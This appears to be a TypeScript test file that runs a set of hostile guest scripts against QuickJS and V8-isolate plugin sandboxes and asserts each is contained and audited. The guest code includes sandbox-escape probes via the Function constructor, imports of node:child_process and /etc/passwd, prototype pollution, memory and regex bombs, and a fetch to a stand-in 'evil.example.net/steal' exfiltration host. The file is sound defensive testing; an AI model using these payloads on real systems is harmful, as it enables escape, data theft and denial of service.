/**
 * Hostile guest code against the JavaScript sandbox kinds, at the sandbox
 * level: each attack must be contained within its deadline or limit, and the
 * (replaced) instance must then answer a normal call correctly. Run by
 * test/hostile/quickjs.test.ts and test/hostile/isolate.test.ts.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { RequestData, SandboxHost, SandboxInstance } from '../../plugin-api/index.js';
import { request, writePlugin, type TestHost, type TestPlugin } from './testing.js';

const TIMEOUT_MS = 100;
/** Generous: a 2-core machine shared by several test runs. The point is "bounded", not "fast". */
const CONTAINED_MS = 5000;

const HOSTILE = `
const attacks = {
  spin() { for (;;) {} },
  logLoop() { for (;;) bext_log('info', 'flood', { x: 1 }); },
  configLoop() { for (;;) bext_config(); },
  bomb() { const a = []; for (;;) a.push(new Array(1 << 16).fill(a.length)); },
  stringBomb() { const a = []; for (;;) a.push('x'.repeat(1 << 16) + a.length); },
  bigArray() { const a = []; for (let i = 0; ; i++) a.push({ i, s: 'y' + i }); },
  recurse() { const f = (n) => f(n + 1) + 1; return f(0); },
  deepOutput() { let a = []; for (let i = 0; i < 20000; i++) a = [a]; return { status: 200, body: 'x', ctx: a }; },
  hugeOutput() { return { status: 200, body: 'x'.repeat(20 * 1024 * 1024) }; },
  pollute() {
    const setHeaders = JSON.parse('{"__proto__": {"polluted": "yes"}, "x-a": "1"}');
    Object.prototype.polluted = 'yes';
    Array.prototype.includes = () => true;
    JSON.parse = () => ({ action: 'respond', status: 418 });
    JSON.stringify = () => '{"action":"respond","status":418}';
    return { action: 'continue', setHeaders };
  },
  protoKey() { return { action: 'continue', setHeaders: JSON.parse('{"__proto__": {"polluted": "yes"}, "x-a": "1"}') }; },
  getterLoop() { return { action: 'continue', get setHeaders() { for (;;) {} } }; },
  toJSONTrick() { return { toJSON() { return { action: 'respond', status: 299, body: typeof process }; } }; },
  proxyOut() { return new Proxy({}, { get() { for (;;) {} }, ownKeys() { for (;;) {} } }); },
  thenTrap() { return { get then() { for (;;) {} } }; },
  escape() {
    const probes = {};
    const names = ['process', 'require', 'module', 'fetch', 'Deno', 'Bun', '__dirname', 'Buffer', 'setTimeout', 'XMLHttpRequest', 'WebAssembly', 'ivm', '_ivm', 'std', 'os'];
    for (const n of names) probes[n] = typeof globalThis[n];
    let viaFunction;
    try { viaFunction = typeof Function('return this')().process; } catch (e) { viaFunction = 'threw'; }
    let viaCtor;
    try { viaCtor = ({}).constructor.constructor('return typeof process')(); } catch (e) { viaCtor = 'threw'; }
    let viaHostFn;
    try { viaHostFn = bext_log.constructor('return typeof process')(); } catch (e) { viaHostFn = 'threw'; }
    return { action: 'continue', ctx: { probes, viaFunction, viaCtor, viaHostFn } };
  },
  async importNode() {
    const out = {};
    for (const m of ['node:fs', 'fs', 'node:child_process', '/etc/passwd', '../../../etc/passwd']) {
      try { await import(m); out[m] = 'imported'; } catch (e) { out[m] = 'refused'; }
    }
    return { action: 'continue', ctx: out };
  },
  async publishUngranted() { return { action: 'continue', ctx: { n: await bext_publish('secret/topic', { a: 1 }) } }; },
  async fetchUngranted() { return { action: 'continue', ctx: { r: await bext_fetch({ url: 'https://evil.example.net/steal' }) } }; },
  throw42() { throw 42; },
  throwNull() { throw null; },
  throwUndefined() { throw undefined; },
  rejectUndefined() { return Promise.reject(undefined); },
  async asyncThrowObject() { throw { toString() { throw new Error('nested'); } }; },
  throwGetterLoop() { throw { get message() { for (;;) {} }, get name() { for (;;) {} } }; },
  never() { return new Promise(() => {}); },
  atomicsWait() {
    try { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); } catch (e) { /* refused to block: spin instead */ }
    for (;;) {}
  },
  async spinAfterAwait() { await bext_config(); for (;;) {} },
  // Catastrophic backtracking: 2^40 steps inside one native regexp call.
  regexBomb() { return { action: 'continue', ctx: { m: /^(a+)+$/.test('a'.repeat(40) + 'b') } }; },
  async bombAfterHostCall() { await bext_kv_get('k'); const a = []; for (;;) a.push(new Array(1 << 16).fill(a.length)); },
};
export function onRequest(req) {
  const attack = attacks[req.path.slice(1)];
  if (attack) return attack();
  return { action: 'continue', setHeaders: { 'x-ok': String(Object.prototype.polluted === undefined) } };
}
`;

export function hostileSuite(host: SandboxHost, kind: 'quickjs' | 'isolate'): void {
  describe(`hostile code in the ${kind} sandbox`, () => {
    let p: TestPlugin;
    let inst: SandboxInstance;
    let th: TestHost;
    beforeEach(async () => {
      p = writePlugin(kind, HOSTILE, { grants: ['publish:custom/*', 'kv'], limits: { timeoutMs: TIMEOUT_MS, memoryMb: 16 } });
      th = p.host;
      inst = await host.load(p.spec);
    });
    afterEach(async () => {
      await inst?.dispose();
      p?.cleanup();
    });

    const call = (path: string) => inst.hooks.onRequest!(request({ path }) as RequestData as never);
    /** Runs an attack; returns its outcome (value or error) and how long it took. */
    const attack = async (path: string): Promise<{ value?: unknown; error?: { code?: string; message: string }; ms: number }> => {
      const t0 = performance.now();
      try {
        const value = await call(path);
        return { value, ms: performance.now() - t0 };
      } catch (e) {
        return { error: e as { code?: string; message: string }, ms: performance.now() - t0 };
      }
    };
    // Awaited: after a QuickJS module retirement the replacement is built asynchronously.
    const servesNormally = async () => {
      expect(await call('/')).toEqual({ action: 'continue', setHeaders: { 'x-ok': 'true' } });
    };

    const EITHER = 'BEXT_ERR_PLUGIN_TIMEOUT|BEXT_ERR_SANDBOX_LIMIT';
    const contained: [string, string][] = [
      ['spin', 'BEXT_ERR_PLUGIN_TIMEOUT'],
      ['logLoop', 'BEXT_ERR_PLUGIN_TIMEOUT'],
      ['configLoop', 'BEXT_ERR_PLUGIN_TIMEOUT'],
      // Whichever comes first; the memory limit alone is tested with a long deadline in the
      // functional suite (V8 notices its heap limit only at a garbage collection).
      ['bomb', kind === 'quickjs' ? 'BEXT_ERR_SANDBOX_LIMIT' : EITHER],
      ['stringBomb', EITHER],
      ['bigArray', EITHER],
      ['getterLoop', 'BEXT_ERR_PLUGIN_TIMEOUT'],
      ['proxyOut', 'BEXT_ERR_PLUGIN_TIMEOUT'],
      ['thenTrap', 'BEXT_ERR_PLUGIN_TIMEOUT'],
      ['throwGetterLoop', 'BEXT_ERR_PLUGIN_TIMEOUT'],
      ['never', 'BEXT_ERR_PLUGIN_TIMEOUT'],
      // Blocking the thread on a futex, or (where Atomics.wait refuses to block) spinning.
      ['atomicsWait', 'BEXT_ERR_PLUGIN_TIMEOUT'],
      ['spinAfterAwait', 'BEXT_ERR_PLUGIN_TIMEOUT'],
      // The regexp engine checks the deadline while it backtracks.
      ['regexBomb', 'BEXT_ERR_PLUGIN_TIMEOUT'],
      ['bombAfterHostCall', kind === 'quickjs' ? 'BEXT_ERR_SANDBOX_LIMIT' : EITHER],
    ];
    for (const [name, code] of contained) {
      it(`contains ${name} (${code}) and the replaced instance serves normally`, async () => {
        const before = inst.stats().restarts ?? 0;
        const r = await attack(`/${name}`);
        expect(r.error, `${name} must fail`).toBeDefined();
        expect(r.error?.code).toMatch(new RegExp(`^(${code})$`));
        expect(r.error?.message).toContain('plugin "guest" onRequest');
        expect(r.ms).toBeLessThan(CONTAINED_MS);
        await servesNormally();
        expect(inst.stats().restarts).toBe(before + 1);
      });
    }

    it('contains deep recursion as a limit error', async () => {
      const r = await attack('/recurse');
      expect(r.error).toMatchObject({ code: 'BEXT_ERR_SANDBOX_LIMIT' });
      await servesNormally();
    });

    it('contains a deeply nested answer', async () => {
      const r = await attack('/deepOutput');
      // Under load the 100 ms deadline may come first; any of these is containment.
      expect(r.error?.code).toMatch(/^BEXT_ERR_(SANDBOX_LIMIT|PLUGIN_FAILED|PLUGIN_TIMEOUT)$/);
      await servesNormally();
    });

    it('refuses a huge answer', async () => {
      const r = await attack('/hugeOutput');
      expect(r.error).toMatchObject({ code: 'BEXT_ERR_SANDBOX_LIMIT' });
      await servesNormally();
    });

    it('keeps prototype pollution inside the guest', async () => {
      const r = await attack('/pollute');
      expect(r.value).toEqual({ action: 'continue', setHeaders: { 'x-a': '1' } });
      const headers = (r.value as { setHeaders: object }).setHeaders;
      expect(Object.getPrototypeOf(headers)).toBe(Object.prototype);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect([].includes(1 as never)).toBe(false);
      expect(JSON.parse('{"a":1}')).toEqual({ a: 1 });
      // The guest's own realm stays polluted (it is its realm), but nothing reached the host,
      // and the dispatcher kept the JSON functions it captured before the plugin ran.
      expect(await call('/')).toEqual({ action: 'continue', setHeaders: { 'x-ok': 'false' } });
      await inst.restart!();
      await servesNormally();
    });

    it('drops a __proto__ key in an answer so no host object can be re-parented', async () => {
      const r = await attack('/protoKey');
      const headers = (r.value as { setHeaders: Record<string, unknown> }).setHeaders;
      expect(Object.keys(headers)).toEqual(['x-a']);
      const target: Record<string, unknown> = {};
      Object.assign(target, headers);
      expect(Object.getPrototypeOf(target)).toBe(Object.prototype);
    });

    it('runs toJSON inside the guest, where process does not exist', async () => {
      expect((await attack('/toJSONTrick')).value).toEqual({ action: 'respond', status: 299, body: 'undefined' });
    });

    it('offers no way to process, require, fetch or the host realm', async () => {
      const r = await attack('/escape');
      const ctx = (r.value as { ctx: { probes: Record<string, string>; viaFunction: string; viaCtor: string; viaHostFn: string } }).ctx;
      expect(ctx.probes).toBeDefined();
      for (const [name, type] of Object.entries(ctx.probes)) {
        if (name === 'WebAssembly' && kind === 'isolate') continue; // V8's own, inside the isolate
        expect(type, name).toBe('undefined');
      }
      expect(ctx.viaFunction).toBe('undefined');
      expect(ctx.viaCtor).toBe('undefined');
      expect(ctx.viaHostFn).toBe('undefined');
    });

    it('refuses imports of node modules and files outside the plugin', async () => {
      const r = await attack('/importNode');
      expect((r.value as { ctx: Record<string, string> }).ctx).toEqual({
        'node:fs': 'refused', fs: 'refused', 'node:child_process': 'refused', '/etc/passwd': 'refused', '../../../etc/passwd': 'refused',
      });
    });

    it('refuses and audits an ungranted publish and fetch', async () => {
      th.audit.length = 0;
      const pub = await attack('/publishUngranted');
      expect(pub.error).toMatchObject({ code: 'BEXT_ERR_PLUGIN_FAILED', message: expect.stringContaining('BextError') });
      expect(pub.error?.message).toContain('secret/topic');
      const fet = await attack('/fetchUngranted');
      expect(fet.error?.code).toBe('BEXT_ERR_PLUGIN_FAILED');
      expect(th.audit).toEqual([
        { fn: 'bext_publish', detail: 'secret/topic' },
        { fn: 'bext_fetch', detail: 'https://evil.example.net/steal' },
      ]);
      expect(th.published).toEqual([]);
      await servesNormally();
    });

    it('reports thrown non-Error values without crashing', async () => {
      for (const [path, text] of [
        ['/throw42', 'a non-Error value was thrown: 42'],
        ['/throwNull', 'a non-Error value was thrown: null'],
        ['/throwUndefined', 'a non-Error value was thrown: undefined'],
        ['/rejectUndefined', 'a non-Error value was thrown: undefined'],
        ['/asyncThrowObject', 'a non-Error value was thrown'],
      ] as const) {
        const r = await attack(path);
        expect(r.error, path).toMatchObject({ code: 'BEXT_ERR_PLUGIN_FAILED' });
        expect(r.error!.message, path).toContain(text);
      }
      await servesNormally();
    });
  });

  if (kind === 'quickjs') {
    describe('a native-stack escape in one QuickJS tenant', () => {
      it('leaves the other tenants serving', async () => {
        const a = writePlugin(kind, HOSTILE, { limits: { timeoutMs: 1000, memoryMb: 64 } });
        const b = writePlugin(kind, HOSTILE, { limits: { timeoutMs: 1000, memoryMb: 64 } });
        const ia = await host.load(a.spec);
        const ib = await host.load(b.spec);
        try {
          await expect(Promise.resolve().then(() => ia.hooks.onRequest!(request({ path: '/deepOutput' }) as never))).rejects.toMatchObject({
            code: expect.stringMatching(/^BEXT_ERR_(SANDBOX_LIMIT|PLUGIN_FAILED)$/),
          });
          const ok = { action: 'continue', setHeaders: { 'x-ok': 'true' } };
          expect(await ib.hooks.onRequest!(request({ path: '/' }) as never)).toEqual(ok);
          expect(await ia.hooks.onRequest!(request({ path: '/' }) as never)).toEqual(ok);
        } finally {
          await ia.dispose();
          await ib.dispose();
          a.cleanup();
          b.cleanup();
        }
      });
    });
  }
}
